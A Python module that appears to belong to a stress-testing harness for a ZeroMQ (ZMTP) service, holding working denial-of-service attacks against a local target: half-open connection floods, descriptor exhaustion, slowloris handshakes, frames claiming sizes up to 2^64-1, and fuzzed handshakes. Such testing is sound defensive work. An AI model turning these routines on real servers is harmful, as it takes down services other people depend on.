"""Attacks by connections that never become clients."""

from __future__ import annotations

import contextlib
import itertools
import os
import random
import resource
import socket
import struct
import time

from attacks.target import Target
from attacks.zmtp import GREETING_BYTES, LONG, MORE, Peer, claim, command, greeting, ready

HALF_OPEN = 2_000
OWN_DESCRIPTORS = 10_000


def raise_own_limit() -> None:
    """Let this process have more descriptors, as far as it may."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    most = OWN_DESCRIPTORS if hard == resource.RLIM_INFINITY else min(hard, OWN_DESCRIPTORS)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, hard))


def half_open(target: Target) -> None:
    """2,000 connections that say nothing; half of them say a greeting, or half a one."""
    raise_own_limit()
    beginnings = itertools.cycle([b"", greeting()[:10], greeting(), greeting() + ready(b"SUB")[:5]])
    ports = itertools.cycle([target.publish_port, target.control_port])
    held: list[socket.socket] = []
    while target.going_on():
        if len(held) >= HALF_OPEN:
            time.sleep(0.1)
            continue
        with contextlib.suppress(OSError):
            one = socket.create_connection(("127.0.0.1", next(ports)), 1.0)
            one.sendall(next(beginnings))
            held.append(one)


def fill_descriptors(target: Target) -> None:
    """Take connections until there are no more to be had, and take those that become free."""
    raise_own_limit()
    held: list[socket.socket] = []
    while target.going_on():
        with contextlib.suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", target.publish_port), 0.2))
        if len(held) > HALF_OPEN:
            held.pop(0).close()


def slow_loris(target: Target) -> None:
    """Handshakes, subscriptions and requests of one byte a second, on 200 connections."""
    script = greeting() + ready(b"SUB") + claim(1 << 20)
    ports = itertools.cycle([target.publish_port, target.control_port])
    held: list[tuple[socket.socket, int]] = []
    for port in itertools.islice(ports, 200):
        with contextlib.suppress(OSError):
            one = socket.create_connection(("127.0.0.1", port), 1.0)
            start = random.choice([0, GREETING_BYTES - 1, len(script) - 5])
            one.sendall(script[:start])
            held.append((one, start))
    for tick in itertools.count():
        if not target.going_on():
            return
        for one, start in held:
            with contextlib.suppress(OSError):
                one.sendall(script[start + tick : start + tick + 1])
        time.sleep(1.0)


def huge_claims(target: Target) -> None:
    """Frames that claim up to 2^64 - 1 bytes, before and after the handshake, as message, part and command."""
    sizes = [1 << 16, 1 << 30, (1 << 31) - 1, 1 << 32, (1 << 63) - 1, 1 << 63, (1 << 64) - 1]
    sockets = itertools.cycle([(target.control_port, b"DEALER"), (target.publish_port, b"SUB")])
    for size, flags in itertools.cycle(itertools.product(sizes, [0, MORE, LONG | 4])):
        if not target.going_on():
            return
        port, kind = next(sockets)
        with contextlib.suppress(OSError), Peer(port, kind) as peer:
            peer.send(claim(size, flags) + bytes(1_000))
            peer.send(bytes(100_000))
        with contextlib.suppress(OSError), Peer(port, b"") as peer:
            peer.send(greeting() + claim(size, LONG | 4) + bytes(1_000))
            peer.send(b"\x04\xff\x05READY\x0bSocket-Type" + struct.pack(">I", 0xFFFFFFFF) + bytes(230))


def garbage_handshakes(target: Target) -> None:
    """Random bytes; greetings of other versions and mechanisms; handshakes that were recorded, whole and spoilt."""
    chance = random.Random(0)
    recorded = greeting() + ready(b"DEALER")
    ports = itertools.cycle([target.publish_port, target.control_port])
    while target.going_on():
        cut = chance.randrange(len(recorded))
        tries = [
            os.urandom(chance.randrange(1, 300)),
            b"\xff" + os.urandom(200),
            greeting(minor=chance.randrange(256)) + ready(b"SUB"),
            greeting(mechanism=chance.choice([b"PLAIN", b"CURVE", b"GSSAPI", b"\xff" * 20])) + command(b"HELLO", bytes(200)),
            recorded[:cut] + bytes([recorded[cut] ^ (1 << chance.randrange(8))]) + recorded[cut + 1 :],
            recorded * 20,
            b"\x01\x00" + bytes(100),  # ZMTP 1.0
            b"\xff" + bytes(8) + b"\x7f\x01\x01" + bytes(50),  # ZMTP 2.0
            b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        ]
        for data in tries:
            with contextlib.suppress(OSError), Peer(next(ports), b"") as peer:
                peer.send(data)
                peer.socket.settimeout(0.01)
                peer.socket.recv(1_000)
